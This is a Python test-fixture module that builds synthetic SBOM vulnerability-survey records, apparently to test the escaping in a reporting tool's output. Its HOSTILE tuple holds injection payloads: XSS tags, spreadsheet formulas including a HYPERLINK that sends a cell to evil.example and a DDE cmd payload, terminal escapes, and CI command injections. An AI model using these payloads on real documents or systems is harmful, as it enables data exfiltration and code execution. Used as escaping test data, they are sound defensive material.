"""Records of surveys as the pipeline would make them, for tests of their reports; all names are invented."""

from __future__ import annotations

import hashlib
import random
from datetime import UTC, date, datetime, timedelta
from typing import Final

from msgspec import structs

from avow.record import (
    Action,
    Aside,
    Assumption,
    Component,
    Declaration,
    EndOfLife,
    Exploited,
    External,
    FitnessCount,
    Left,
    Match,
    NotHeard,
    NotLookedUp,
    Place,
    Problem,
    Product,
    Proposal,
    Rating,
    Said,
    Sbom,
    Snapshot,
    SourceGap,
    SurveyRecord,
    Tool,
    Totals,
    Upstream,
    VexWord,
    Vulnerability,
    Why,
)
from avow.vocabulary import Voice

MADE: Final = datetime(2026, 11, 24, 9, 30, tzinfo=UTC)

HOSTILE: Final = (
    '"><iframe src=javascript:alert(document.title)>',
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title></style><h1>owned</h1>",
    "a\u202etxt.exe",
    "[click](javascript:alert(1))",
    "![shot](https://evil.example/x.png)",
    "| cell | break |",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x1b[2J",
    "${{ secrets.TOKEN }}",
    "::error::injected",
    "##vso[task.setvariable]x",
    "{{ 7 * 7 }}{% raw %}",
    '=HYPERLINK("https://evil.example/?q="&A1,"details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    'safe"quote,and;separators\nline',
    "a;=1+1",
    "line\n=1+1",
    "'@types/lantern",
    "\\u{41}",
    "@types/lantern",
    "`code` ``more``",
    "https://user:hunter2@git.example/x",
    "x" * 5000,
    "\u0085next\u2028line\u00adsoft",
)
"""Names of components that a report must show as text."""

_WORDS: Final = (
    "lantern", "copper", "harbour", "meadow", "anvil", "willow", "ember", "quartz", "saddle", "thistle",
    "beacon", "cobalt", "drift", "fathom", "gable", "heron", "island", "juniper", "kettle", "lattice",
    "marrow", "nimbus",
)  # fmt: skip
_SECONDS: Final = (
    "core",
    "parser",
    "http",
    "tls",
    "json",
    "log",
    "util",
    "io",
    "crypto",
    "queue",
    "cache",
    "yaml",
)


def digest(text: str) -> str:
    """SHA-256 of a text, as hexadecimal."""
    return hashlib.sha256(text.encode("utf-8", "replace")).hexdigest()


def empty_record() -> SurveyRecord:
    """One SBOM without entries, and nothing given beside it."""
    return SurveyRecord(
        tool=Tool(name="avow", version="0.1.0"),
        made=MADE,
        totals=Totals(
            sboms=1,
            entries=0,
            components=0,
            upstreams=0,
            upstreams_named=0,
            looked_up=0,
            not_looked_up=0,
        ),
        sboms=(
            Sbom(
                id="s1",
                source="empty.cdx.json",
                sha256=digest("empty"),
                format="CycloneDX JSON 1.6",
                entries=0,
                components=0,
                upstreams=0,
            ),
        ),
        components=(),
        upstreams=(),
    )


def hostile_record() -> SurveyRecord:
    """Every text of the record is one that some output would act on."""
    names = HOSTILE
    components = tuple(
        Component(
            id=f"c{number}",
            name=name,
            version=names[-number % len(names)],
            purl=f"pkg:npm/x@1?vcs_url=git%2Bhttps:%2F%2Fuser:hunter2%40git.example&n={name}",
            cpes=(name,),
            supplier=name,
            licences=(name,),
            modified=True,
            upstream=f"u{number}",
            places=(Place(sbom="s1", at=f"/components/{number}"),),
            looked_up=number % 2 == 0,
            why=Why.BAD_PURL if number % 2 else None,
            why_detail=name,
        )
        for number, name in enumerate(names)
    )
    upstreams = tuple(
        Upstream(
            id=f"u{number}",
            key=f"name:{name}",
            label=name,
            repository=("javascript:alert(1)", "https://user:hunter2@git.example/x.git", name)[number % 3],
            basis=name,
            components=(f"c{number}",),
            history_source=name if number % 4 == 0 else "",
        )
        for number, name in enumerate(names)
    )
    vulnerabilities = tuple(
        Vulnerability(
            key=name,
            ids=(name, f"{name}2"),
            summary=name,
            malicious=True,
            ratings=(Rating(method=name, text=name, source=name),),
            exploited=(
                Exploited(
                    source=name,
                    snapshot="d1",
                    cve=name,
                    via=name,
                    named_for=name,
                    origin=name,
                    ransomware=name,
                ),
            ),
            epss=name,
            matches=(
                Match(
                    component=f"c{number}",
                    advisory=name,
                    spoke="matching",
                    source="d1",
                    fixed=(name,),
                    state=name,
                    state_detail=name,
                    vex=(
                        VexWord(
                            status=name,
                            status_text=name,
                            justification=name,
                            voice=Voice.SUPPLIER,
                            author=name,
                            source=name,
                        ),
                    ),
                ),
            ),
        )
        for number, name in enumerate(names)
    )
    aside = tuple(
        Aside(component=f"c{number}", advisory=name, reason=name, summary=name)
        for number, name in enumerate(names)
    )
    declarations = tuple(
        Declaration(
            kind=name,
            voice=Voice.PROJECT_UNSIGNED,
            components=(f"c{number}",),
            basis=name,
            source=name,
            sha256=digest(name),
            signer=name,
            note=name,
            said=(Said(practice=name, name=name, status=name, facts=((name, name),)),),
            assumptions=(Assumption(id=name, text=name, if_violated=name),),
            left=(Left(letter=name, handling=name, provided=name, left_to_integrator=name),),
        )
        for number, name in enumerate(names)
    )
    sbom = Sbom(
        id="s1",
        source="::error::bom<img>.json",
        sha256=digest("bom"),
        format=names[0],
        created_text=names[1],
        generators=names,
        supplier=names[2],
        roots=names,
        entries=len(names),
        components=len(names),
        upstreams=len(names),
        completeness=names,
        services=names,
        external=tuple(External(document=name, elements=(name,)) for name in names),
        cycles=(names,),
        unreachable=1,
        fitness=tuple(FitnessCount(field=name, have=0, of=1, cause=name) for name in names),
        problems=tuple(Problem(kind=name, place=name, message=name, value=name) for name in names),
    )
    return SurveyRecord(
        tool=Tool(name=names[0], version=names[1]),
        made=MADE,
        product=Product(name=names[3], support_end=date(2031, 1, 1), variants=names),
        totals=Totals(
            sboms=1,
            entries=len(names),
            components=len(names),
            upstreams=len(names),
            upstreams_named=0,
            looked_up=len(names) // 2,
            not_looked_up=len(names) // 2,
            vulnerabilities=len(names),
            vulnerable_components=len(names),
            matches=len(names),
        ),
        first=tuple(Action(what=name, why=name, components=("c0",)) for name in names[:3]),
        sboms=(sbom,),
        snapshots=(
            Snapshot(
                id="d1",
                kind=names[0],
                path=names[1],
                origin="https://user:hunter2@data.example/all.zip",
                sha256=digest("osv"),
                bytes=1,
                records=1,
                unread=1,
                licence=names[2],
                warning=names[5],
            ),
            Snapshot(
                id="d2",
                kind="osv",
                path="x",
                origin="javascript:alert(1)",
                sha256=digest("x"),
                bytes=1,
                records=1,
            ),
        ),
        components=components,
        upstreams=upstreams,
        vulnerabilities=vulnerabilities,
        withdrawn=aside,
        informational=aside,
        undecidable=aside,
        proposed=aside,
        end_of_life=tuple(
            EndOfLife(
                component=f"c{number}",
                product=name,
                by="purl",
                cycle=name,
                eol="2027-01-01",
                state="eol",
                contested=name,
            )
            for number, name in enumerate(names)
        ),
        not_looked_up=tuple(
            NotLookedUp(why=Why.BAD_PURL, detail=name, count=1, components=("c1",)) for name in names
        ),
        gaps=tuple(SourceGap(source=name, why=name) for name in names),
        vex_not_heard=tuple(NotHeard(source=name, ids=(name,), why=name) for name in names),
        declarations=declarations,
        proposals=tuple(Proposal(component="c0", what=name, basis=name, row=name) for name in names),
    )


def survey_record(*, components: int = 400, sboms: int = 3, seed: int = 7) -> SurveyRecord:
    """What a manufacturer with a gateway of `components` components sees on the first day."""
    return _Made(components, sboms=sboms, random=random.Random(seed)).record()  # noqa: S311  no secret


def unlooked_record() -> SurveyRecord:
    """Data was given, and none of 37 components has an identifier that could be looked up in it."""
    made = survey_record(components=37, sboms=1)
    return structs.replace(
        made,
        totals=Totals(
            sboms=1,
            entries=37,
            components=37,
            upstreams=made.totals.upstreams,
            upstreams_named=made.totals.upstreams_named,
            looked_up=0,
            not_looked_up=37,
            by_name_only=37,
        ),
        components=tuple(
            structs.replace(each, purl="", looked_up=False, why=Why.NO_PURL, why_detail="")
            for each in made.components
        ),
        not_looked_up=(
            NotLookedUp(why=Why.NO_PURL, count=37, components=tuple(each.id for each in made.components)),
        ),
        vulnerabilities=(),
        undecidable=(),
        withdrawn=(),
        proposed=(),
        end_of_life=(),
        declarations=(),
        gaps=(),
        vex_not_heard=(),
        command=(),
    )


class _Made:
    """Builds a record by part."""

    def __init__(self, count: int, *, sboms: int, random: random.Random) -> None:
        self.random = random
        self.count = count
        self.sbom_ids = tuple(f"s{number}" for number in range(1, sboms + 1))
        self.upstream_count = max(1, count // 4)
        self.components = tuple(self._component(number) for number in range(1, count + 1))

    def _component(self, number: int) -> Component:
        ecosystem = self.random.choice(
            ("npm", "npm", "pypi", "golang", "maven", "deb", "yocto", "generic", "")
        )
        upstream = self.random.randint(1, self.upstream_count)
        word, second = _WORDS[upstream % len(_WORDS)], _SECONDS[number % len(_SECONDS)]
        name = f"@{word}/{second}" if ecosystem == "npm" and number % 3 == 0 else f"{word}-{second}"
        version = f"{self.random.randint(0, 9)}.{self.random.randint(0, 30)}.{self.random.randint(0, 9)}"
        why, detail = None, ""
        if ecosystem in {"yocto", "generic"}:
            why, detail = Why.ECOSYSTEM_NOT_COVERED, ecosystem
        elif not ecosystem:
            why = Why.NO_PURL
        elif number % 41 == 0:
            why, version = Why.NO_VERSION, ""
        quoted = name.replace("@", "%40")
        at = f"@{version}" if version else ""
        places = tuple(
            Place(sbom=each, at=f"/components/{number}")
            for index, each in enumerate(self.sbom_ids)
            if index == number % len(self.sbom_ids) or (number + index) % 5 == 0
        )
        return Component(
            id=f"c{number}",
            name=name,
            version=version,
            purl=f"pkg:{ecosystem}/{quoted}{at}" if ecosystem else "",
            kind=ecosystem if ecosystem in {"yocto", "generic"} else "",
            cpes=(f"cpe:2.3:a:{word}:{second}:{version}:*:*:*:*:*:*:*",) if number % 17 == 0 else (),
            digests=(f"sha256:{digest(name)}",) if number % 3 else (),
            licences=(self.random.choice(("MIT", "Apache-2.0", "BSD-3-Clause", "GPL-2.0-only")),),
            modified=number % 53 == 0,
            upstream=f"u{upstream}",
            places=places,
            looked_up=why is None,
            why=why,
            why_detail=detail,
        )

    def _upstreams(self) -> tuple[Upstream, ...]:
        members: dict[str, list[str]] = {}
        for each in self.components:
            members.setdefault(each.upstream, []).append(each.id)
        found = []
        for number in range(1, self.upstream_count + 1):
            own = members.get(f"u{number}", [])
            if not own:
                continue
            word = _WORDS[number % len(_WORDS)]
            named = number % 3 != 0
            found.append(
                Upstream(
                    id=f"u{number}",
                    key=f"https://github.com/{word}-project/{word}{number}"
                    if named
                    else f"name:{word}{number}",
                    label=f"github.com/{word}-project/{word}{number}" if named else f"{word}{number}",
                    repository=f"https://github.com/{word}-project/{word}{number}" if named else "",
                    basis="vcs reference" if named else "name",
                    components=tuple(own),
                    last_release=date(2026, 9, 14) if number % 9 == 0 else None,
                    last_security_fix=date(2026, 6, 2) if number % 18 == 0 else None,
                    history_source="releases.csv" if number % 9 == 0 else "",
                )
            )
        return tuple(found)

    def _vulnerabilities(self) -> tuple[Vulnerability, ...]:
        looked_up = [each for each in self.components if each.looked_up]
        found = []
        for number in range(max(2, self.count // 12) if looked_up else 0):
            cve = f"CVE-2026-{20000 + number * 37}"
            hit = self.random.sample(looked_up, k=min(len(looked_up), self.random.choice((1, 1, 1, 2, 3))))
            vex: tuple[VexWord, ...] = ()
            if number % 6 == 0:
                vex = (
                    VexWord(
                        status="not_affected",
                        justification="vulnerable_code_not_in_execute_path",
                        voice=Voice.OWN,
                        author="Product security",
                        source="gateway.openvex.json",
                        moment=MADE - timedelta(days=12),
                    ),
                )
            elif number % 11 == 0:
                vex = (
                    VexWord(
                        status="under_investigation",
                        status_text="in_triage",
                        voice=Voice.SUPPLIER,
                        source="gateway.cdx.json",
                    ),
                )
            found.append(
                Vulnerability(
                    key=cve,
                    ids=(cve, f"GHSA-{number:04d}-test-{number:04d}"),
                    summary=f"A crafted {_SECONDS[number % len(_SECONDS)]} message makes the parser read "
                    "past the end of its buffer",
                    published=date(2026, 1, 5) + timedelta(days=number * 7),
                    malicious=number == 5,
                    ratings=(
                        Rating(
                            method="CVSS_V3",
                            text="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H",
                            source="GitHub",
                        ),
                    ),
                    exploited=_exploited(cve) if number in {1, 9} else (),
                    matches=tuple(
                        Match(
                            component=each.id,
                            advisory=f"GHSA-{number:04d}-test-{number:04d}",
                            spoke="findings" if number % 4 == 0 else "matching",
                            source="f1" if number % 4 == 0 else "d1",
                            fixed=(f"{self.random.randint(5, 12)}.0.1",) if number % 5 else (),
                            last_known_affected="9.30.9" if number % 10 == 0 else "",
                            contested=number % 15 == 3,
                            via="upstream" if number % 13 == 2 else "",
                            state="IN_TRIAGE" if number % 4 == 0 else "",
                            vex=vex,
                        )
                        for each in hit
                    ),
                )
            )
        return tuple(found)

    def _end_of_life(self) -> tuple[EndOfLife, ...]:
        found = []
        ends = (
            "2023-09-11",
            "2025-04-30",
            "2026-11-30",
            "2027-06-30",
            "2028-04-30",
            "2029-05-31",
            "2032-04-30",
        )
        for number, each in enumerate(self.components[:: max(1, self.count // 20)]):
            word = _WORDS[number % len(_WORDS)]
            eol = ends[number % len(ends)]
            state = "eol" if eol < MADE.date().isoformat() else "supported"
            cycle = f"{number % 7 + 1}.{number % 3}"
            if number % 9 == 8:
                eol, state, cycle = "", "cycle_not_found", ""
            elif number % 9 == 7:
                eol, state = "false", "supported"
            found.append(
                EndOfLife(
                    component=each.id,
                    product=word,
                    by="purl",
                    cycle=cycle,
                    eol=eol,
                    state=state,
                    snapshot="d3",
                )
            )
        return tuple(found)

    def _declarations(self) -> tuple[Declaration, ...]:
        if len(self.components) < 4:
            return ()
        one, two, three, four = self.components[:4]
        return (
            Declaration(
                kind="declaration",
                voice=Voice.PROJECT_SIGNED,
                components=(one.id,),
                upstream=one.upstream,
                basis="digest",
                source="bundles/one.sigstore.json",
                sha256=digest("one"),
                signer="https://github.com/copper-project/copper1/.github/workflows/release.yml@refs/tags/v1 "
                "(https://token.actions.githubusercontent.com)",
                dated=MADE - timedelta(days=30),
                valid_until=date(2027, 10, 31),
                said=(
                    Said(
                        practice="VUL-01",
                        name="Private reporting channel",
                        status="implemented",
                        facts=(("contact", "https://github.com/copper-project/copper1/security"),),
                    ),
                    Said(
                        practice="SUP-01",
                        name="Support period",
                        status="implemented",
                        facts=(("until", "2029-12-31"),),
                    ),
                ),
                assumptions=(
                    Assumption(
                        id="A1",
                        text="The configuration file is writable by the operator only.",
                        if_violated="anyone who can write it can run code",
                    ),
                ),
                left=(
                    Left(
                        letter="b",
                        handling="shared",
                        provided="No account exists after installation.",
                        left_to_integrator="Set the listen address before the first start.",
                    ),
                    Left(
                        letter="l",
                        handling="integrator",
                        left_to_integrator="Keep and protect the log; nothing is recorded by default.",
                    ),
                ),
            ),
            Declaration(
                kind="security-insights",
                voice=Voice.PROJECT_UNSIGNED,
                components=(two.id,),
                upstream=two.upstream,
                basis="repository",
                source="https://github.com/ember-project/ember/blob/main/security-insights.yml",
                dated=MADE - timedelta(days=90),
                said=(
                    Said(practice="VUL-02", name="Vulnerability handling policy", status="stated", facts=()),
                ),
            ),
            Declaration(
                kind="scorecard",
                voice=Voice.THIRD_PARTY_UNSIGNED,
                components=(two.id,),
                upstream=two.upstream,
                basis="repository",
                source="scorecard/ember.json",
                sha256=digest("scorecard"),
                dated=MADE - timedelta(days=20),
                said=(
                    Said(
                        practice="REV-01",
                        name="Code review",
                        status="observed",
                        facts=(("Code-Review", "3 of 10"),),
                    ),
                ),
            ),
            Declaration(
                kind="provenance",
                voice=Voice.BUILD_SIGNED,
                components=(three.id,),
                upstream=three.upstream,
                basis="digest",
                source="provenance/three.json",
                sha256=digest("three"),
                signer="https://github.com/heron-project/heron/.github/workflows/publish.yml@refs/heads/main",
                note="It proves where the package was built, not how the project works.",
            ),
            Declaration(
                kind="pointer",
                voice=Voice.SIGNED_UNVERIFIED,
                components=(four.id,),
                upstream=four.upstream,
                basis="pointer",
                source="bundles/four.sigstore.json",
                note="Named by the SBOM; no signer is listed for it.",
            ),
        )

    def record(self) -> SurveyRecord:
        """The whole record, with totals that fit its lists."""
        upstreams, vulnerabilities = self._upstreams(), self._vulnerabilities()
        end_of_life, declarations = self._end_of_life(), self._declarations()
        return SurveyRecord(
            tool=Tool(name="avow", version="0.1.0"),
            made=MADE,
            command=(
                "avow",
                "survey",
                *(each.source for each in self._sboms()),
                "--data",
                "snapshots",
                "--findings",
                "findings/gateway.fpf.json",
            ),
            product=Product(
                name="Shopfloor Gateway 7",
                placed_on_market=date(2026, 3, 2),
                support_end=date(2031, 3, 31),
                variants=("SG7-E", "SG7-W", "SG7-LTE"),
            ),
            totals=self._totals(upstreams, vulnerabilities, end_of_life=end_of_life),
            first=(
                Action(
                    what="Ask whether 2 vulnerabilities matter that a list names as exploited",
                    why="CISA KEV lists them; the record can't say whether they are shipped and reachable",
                    components=tuple(each.component for each in vulnerabilities[1].matches)
                    if len(vulnerabilities) > 1
                    else (),
                ),
                Action(
                    what="Review 9 rows proposed for avow.map",
                    why="9 components are known by CPE or name only; about 15 minutes",
                ),
                Action(
                    what="Send one note to whoever delivered gateway.cdx.json",
                    why="87 entries have no identifier that could be looked up",
                ),
            ),
            sboms=self._sboms(),
            snapshots=_snapshots(),
            components=self.components,
            upstreams=upstreams,
            vulnerabilities=vulnerabilities,
            withdrawn=(
                Aside(
                    component="c1",
                    advisory="GHSA-9999-test-0001",
                    reason="withdrawn on 2026-05-01",
                    dated=MADE,
                ),
            ),
            undecidable=(
                Aside(component="c2", advisory="GHSA-9999-test-0002", reason="4.x cannot be compared in npm"),
            ),
            proposed=(
                Aside(
                    component="c3",
                    advisory="CVE-2025-11111",
                    reason="by CPE cpe:2.3:a:heron:heron",
                    summary="A use after free",
                ),
            ),
            end_of_life=end_of_life,
            not_looked_up=self._not_looked_up(),
            gaps=(
                SourceGap(source="EU KEV", why="no snapshot was given", kind="not_given"),
                SourceGap(source="published Scorecards", why="no snapshot was given", kind="not_given"),
                SourceGap(
                    source="bundles/forged.sigstore.json",
                    why="refused: the signature is wrong",
                    kind="refused",
                ),
                *(
                    SourceGap(
                        source=f"bundles/other-{number}.sigstore.json",
                        why="it is about none of the components",
                        kind="about_nothing",
                    )
                    for number in range(12)
                ),
                SourceGap(source="gateway.openvex.json", why="the author is not stated"),
            ),
            vex_not_heard=(
                NotHeard(
                    source="other.openvex.json",
                    ids=("CVE-2024-1234",),
                    why="its product is not one of these",
                ),
            ),
            declarations=declarations,
            proposals=tuple(
                Proposal(
                    component=each.id,
                    what=f"pkg:npm/{each.name.replace('@', '%40')}@{each.version}",
                    basis="name",
                )
                for each in self.components[:9]
            ),
        )

    def _totals(
        self,
        upstreams: tuple[Upstream, ...],
        vulnerabilities: tuple[Vulnerability, ...],
        *,
        end_of_life: tuple[EndOfLife, ...],
    ) -> Totals:
        looked_up = sum(each.looked_up for each in self.components)
        matches = [match for each in vulnerabilities for match in each.matches]
        return Totals(
            sboms=len(self.sbom_ids),
            entries=sum(len(each.places) for each in self.components),
            components=len(self.components),
            upstreams=len(upstreams),
            upstreams_named=sum(bool(each.repository) for each in upstreams),
            looked_up=looked_up,
            not_looked_up=len(self.components) - looked_up,
            by_purl=sum(bool(each.purl) for each in self.components),
            by_cpe_only=sum(bool(each.cpes) and not each.purl for each in self.components),
            by_digest=sum(bool(each.digests) for each in self.components),
            by_name_only=sum(not each.purl and not each.cpes for each in self.components),
            vulnerabilities=len(vulnerabilities),
            vulnerable_components=len({match.component for match in matches}),
            matches=len(matches),
            contested=sum(match.contested for match in matches),
            from_findings=sum(match.spoke == "findings" for match in matches),
            exploited=sum(bool(each.exploited) for each in vulnerabilities),
            malicious=sum(each.malicious for each in vulnerabilities),
            withdrawn=1,
            undecidable=1,
            end_of_life=len({each.component for each in end_of_life if each.state == "eol"}),
            declarations=1,
            project_files=1,
            published_results=1,
            provenance=1,
            proposals=9,
        )

    def _not_looked_up(self) -> tuple[NotLookedUp, ...]:
        found: dict[tuple[Why, str], list[str]] = {}
        for each in self.components:
            if each.why is not None:
                found.setdefault((each.why, each.why_detail), []).append(each.id)
        return tuple(
            NotLookedUp(why=why, detail=detail, count=len(ids), components=tuple(ids))
            for (why, detail), ids in found.items()
        )

    def _sboms(self) -> tuple[Sbom, ...]:
        sources = ("gateway.cdx.json", "firmware.spdx.json", "web-ui.cdx.json", "modem.spdx.tar.zst")
        formats = ("CycloneDX JSON 1.6", "SPDX JSON 2.3", "CycloneDX JSON 1.5", "SPDX 2.2 set")
        generators = ("syft 1.33.0", "Yocto 5.0", "cdxgen 11.4", "Yocto 4.0")
        return tuple(
            Sbom(
                id=identifier,
                source=sources[index % 4] if index < 4 else f"product-{index}.cdx.json",
                sha256=digest(identifier),
                format=formats[index % 4],
                created=MADE - timedelta(days=3 + index),
                generators=(generators[index % 4],),
                supplier="Meadow Embedded GmbH" if index == 1 else "",
                roots=(f"shopfloor-gateway 7.{index}",),
                entries=sum(any(p.sbom == identifier for p in each.places) for each in self.components),
                components=sum(any(p.sbom == identifier for p in each.places) for each in self.components),
                upstreams=self.upstream_count // 2,
                inputs=12 if index == 1 else 0,
                completeness=("incomplete",) if index == 0 else (),
                services=("telemetry.example", "update.example") if index == 0 else (),
                external=(External(document="DocumentRef-recipe-zlib", elements=("SPDXRef-1",)),)
                if index == 1
                else (),
                unreachable=5 if index == 2 else 0,
                fitness=(
                    FitnessCount(field="component version", have=131, of=137, cause="files, not packages"),
                    FitnessCount(
                        field="hash of the deployable component (SHA-512)",
                        have=0,
                        of=137,
                        cause="the generator writes SHA-1 or SHA-256",
                    ),
                    FitnessCount(
                        field="component creator", have=20, of=137, cause="lock files don't state it"
                    ),
                    FitnessCount(field="other unique identifiers (purl)", have=110, of=137),
                ),
                problems=(
                    Problem(
                        kind="bad purl",
                        place="/components/17/purl",
                        message="a space is not allowed",
                        value="pkg:npm/a b@1",
                    ),
                )
                if index == 0
                else (),
            )
            for index, identifier in enumerate(self.sbom_ids)
        )


def _exploited(cve: str) -> tuple[Exploited, ...]:
    return (
        Exploited(
            source="CISA KEV",
            snapshot="d2",
            cve=cve,
            via="alias",
            added=date(2026, 10, 3),
            named_for="Copper Core",
            ransomware="Known",
        ),
        Exploited(source="EU KEV", snapshot="d4", cve=cve, via="id", added=date(2026, 10, 5), origin="CRA"),
    )


def _snapshots() -> tuple[Snapshot, ...]:
    return (
        Snapshot(
            id="d1",
            kind="osv",
            path="osv/npm/all.zip",
            file="snapshots/osv/npm/all.zip",
            origin="https://osv.example/npm/all.zip",
            retrieved=date(2026, 11, 22),
            stated=datetime(2026, 11, 22, 4, 0, tzinfo=UTC),
            sha256=digest("osv"),
            bytes=181_000_000,
            records=214_551,
            unread=2,
            licence="CC-BY-4.0",
            age_days=2,
        ),
        Snapshot(
            id="d2",
            kind="kev",
            path="kev/kev.json",
            file="snapshots/kev/kev.json",
            origin="https://kev.example/kev.json",
            retrieved=date(2026, 11, 20),
            sha256=digest("kev"),
            bytes=1_500_000,
            records=1_500,
            licence="CC0-1.0",
            age_days=4,
        ),
        Snapshot(
            id="d3",
            kind="endoflife",
            path="endoflife/eol.json",
            file="snapshots/endoflife/eol.json",
            origin="https://eol.example/full",
            retrieved=date(2026, 9, 1),
            sha256=digest("eol"),
            bytes=900_000,
            records=412,
            licence="MIT",
            age_days=84,
            warning="84 days old",
        ),
        Snapshot(
            id="f1",
            kind="findings: FPF",
            path="findings/gateway.fpf.json",
            file="findings/gateway.fpf.json",
            retrieved=date(2026, 11, 23),
            sha256=digest("fpf"),
            bytes=90_000,
            records=19,
            age_days=1,
        ),
    )
